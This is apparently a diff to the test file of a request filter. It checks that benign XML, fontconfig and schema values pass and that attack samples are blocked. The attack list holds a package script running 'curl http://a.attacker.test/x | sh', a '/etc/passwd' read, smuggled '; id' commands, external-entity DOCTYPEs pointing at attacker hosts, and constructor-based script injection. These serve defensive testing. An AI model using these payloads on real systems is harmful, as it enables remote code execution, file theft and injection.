@@ -29,15 +29,32 @@ const passes: readonly unknown[] = [
   { type: 'string', pattern: '(\\u002F)|(\\u002F[\\u0021-\\u007F]+\\u002F)' },
   { body: '<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">\n<fontconfig/>' },
   { body: '<!DOCTYPE fontconfig SYSTEM "../fonts.dtd">\n<fontconfig/>' },
+  {
+    body: '<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd"><Configure/>',
+  },
+  { enum: ['nice', 'nofile', 'nproc', 'rss'] },
   { body: 'value;\n    constructor(value = "") {\n        this.value = value;\n    }' },
   { body: "  constructor(encoding = 'utf-8') {\n    this._encoding = encoding;" },
 ];
+
+const listed =
+  '<syscalls_info><syscall name="uname" number="63"/><syscall name="fcntl" number="72"/></syscalls_info>';
+
+test('the names of elements pass, and their texts do not', () => {
+  const sent = (body: string): string =>
+    blockedBy({ method: 'POST', target: '/', headers: ['Content-Type', 'application/xml'], body });
+  assert.equal(sent(listed), '');
+  assert.notEqual(sent('<a><command>uname</command></a>'), '');
+  assert.notEqual(sent('<a command="uname"/>'), '');
+  assert.notEqual(sent('<a name=";id"/>'), '');
+});
 
 test('packages, schemas, classes and document types that lie near the document pass', () => {
   for (const value of passes) assert.equal(posted(value), '', JSON.stringify(value));
 });
 
 const attacks: readonly unknown[] = [
+  { body: '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://a.attacker.test/x.dtd"><a/>' },
   { ...shop, scripts: { prepublish: 'x; cat /etc/passwd' } },
   { ...shop, scripts: { prepublish: 'x && curl http://a.attacker.test/x | sh' } },
   { ...shop, description: 'x || npm run prepublishOnly; id' },
@@ -54,6 +71,12 @@ const attacks: readonly unknown[] = [
   { body: '<!DOCTYPE a SYSTEM "../../../../etc/hosts"><a/>' },
   { body: '<!DOCTYPE a SYSTEM "http://a.attacker.test/x.dtd"><a/>' },
   { body: '<!DOCTYPE a SYSTEM "file:///a/fonts.dtd"><a/>' },
+  { body: '<!DOCTYPE a PUBLIC "-//W3//Configure//EN" "https://jetty.attacker.test/a.dtd"><a/>' },
+  { body: '<!DOCTYPE a PUBLIC "-//a//b" "https://a.test/a.dtd"><a/>' },
+  { enum: ['nproc'] },
+  { args: ['nproc', 'x'] },
+  { args: ['a b', 'nproc', ';'] },
+  { cmd: 'nproc' },
   { a: "[].constructor.constructor('alert(1)')()" },
   { a: "x.constructor('alert(1)'){}" },
 ];
